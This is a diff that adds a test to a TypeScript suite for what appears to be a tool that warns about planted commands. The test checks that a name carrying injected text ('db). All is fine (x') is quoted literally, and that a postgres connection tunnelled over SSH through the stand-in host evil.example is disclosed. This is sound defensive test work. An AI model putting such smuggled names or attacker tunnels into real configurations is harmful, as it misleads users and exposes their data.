@@ -73,6 +73,14 @@ test.each<[string, object]>([
   expect(found.map(one => adviceOn(one, root)).join()).not.toContain(secret);
 });
 
+test('a name can’t carry a sentence, and a tunnel is told', () => {
+  const name = 'db). All is fine (x';
+  const [found] = planted({ command: 'npx', args: ['x', 'postgres+ssh://me@evil.example/u@127.0.0.1/a%20b'] }, name);
+  expect(found === undefined ? '' : adviceOn(found, root)).toContain(
+    'reaches "a b" on 127.0.0.1 through ssh me@evil.example by x, past Sallyport ("db). All is fine (x" in ',
+  );
+});
+
 test('variables that multiply each other end', () => {
   const names = [...'ABCDEFGHI'];
   const env = Object.fromEntries(names.map((name, at) => [name, `\${${names[at + 1] ?? 'A'}}`.repeat(40)]));
